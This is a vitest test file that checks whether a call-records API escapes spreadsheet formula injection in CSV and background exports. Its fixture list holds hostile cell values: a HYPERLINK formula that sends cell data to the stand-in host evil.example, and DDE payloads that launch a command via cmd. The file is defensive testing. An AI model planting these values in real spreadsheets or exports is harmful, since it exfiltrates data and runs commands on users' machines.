import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { createComplianceApp, seedCampaignCalls, type ComplianceApp, type Seeded } from './support/compliance-app.ts';
import { waitFor } from '../contract/wait-for.ts';

const T0 = Date.parse('2026-03-10T15:00:00Z');
/** What a hostile lead file or agent note can put in a cell, and what the CSV must hold instead. */
const HOSTILE: readonly [string, string][] = [
  ['=HYPERLINK("http://evil.example/?"&A1,"x")', `'=HYPERLINK("http://evil.example/?"&A1,"x")`],
  ['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
  ['-2+3+cmd|\' /C calc\'!A0', `'-2+3+cmd|' /C calc'!A0`],
  ['@SUM(1+9)*cmd|\' /C calc\'!A0', `'@SUM(1+9)*cmd|' /C calc'!A0`],
  ['\t=1+1', `'\t=1+1`],
  ['\r=1+1', `'\r=1+1`],
  ['plain note', 'plain note'],
];

let t: ComplianceApp;
let s: Seeded;

beforeAll(async () => {
  t = await createComplianceApp(T0 + 86_400_000);
  s = await seedCampaignCalls(t.database, HOSTILE.map((_, i) => ({ originatedAtMs: T0 + i * 1000, outcome: 'human' as const, disposition: `D${i}` })));
  for (const [i, [hostile]] of HOSTILE.entries()) {
    const id = s.attemptIds[i] ?? '';
    await t.database.db.updateTable('call_attempts').set({ disposition_note: hostile, disposition: hostile }).where('id', '=', id).execute();
  }
});
afterAll(async () => t.close());

function notesOf(csv: string): { dispositionNote: string; disposition: string; phone: string }[] {
  return parse(csv, { columns: true, relax_quotes: true }) as { dispositionNote: string; disposition: string; phone: string }[];
}

describe('CSV formula injection', () => {
  it('prefixes cells starting with = + - @ tab or CR with an apostrophe in the streamed CSV, keeps E.164 numbers and NDJSON as they are', async () => {
    const csv = await t.get(`/v1/call-records?campaignId=${s.campaignId}`, { accept: 'text/csv' });
    expect(csv.statusCode).toBe(200);
    const rows = notesOf(csv.body);
    expect(rows.map((r) => r.dispositionNote)).toEqual(HOSTILE.map(([, safe]) => safe));
    expect(rows.map((r) => r.disposition)).toEqual(HOSTILE.map(([, safe]) => safe));
    expect(rows.every((r) => /^\+1202555\d{4}$/.test(r.phone))).toBe(true);

    const ndjson = await t.get(`/v1/call-records?campaignId=${s.campaignId}`, { accept: 'application/x-ndjson' });
    const lines = ndjson.body.trim().split('\n').map((l) => JSON.parse(l) as { dispositionNote: string });
    expect(lines.map((l) => l.dispositionNote)).toEqual(HOSTILE.map(([hostile]) => hostile));
  });

  it('does the same in background export files', async () => {
    const created = await t.app.inject({
      method: 'POST', url: '/v1/exports',
      headers: { authorization: `Bearer ${t.keys.compliance}`, 'content-type': 'application/json' },
      payload: JSON.stringify({ kind: 'call_records', format: 'csv', campaignId: s.campaignId }),
    });
    expect(created.statusCode).toBe(202);
    const { id } = JSON.parse(created.body) as { id: string };
    await waitFor(async () => {
      const body = JSON.parse((await t.get(`/v1/exports/${id}`)).body) as { status: string };
      return body.status === 'completed' || body.status === 'failed' ? body : undefined;
    }, 'export to finish', 30_000);
    const file = await t.get(`/v1/exports/${id}/download`);
    expect(notesOf(file.body).map((r) => r.dispositionNote)).toEqual(HOSTILE.map(([, safe]) => safe));
  });
});
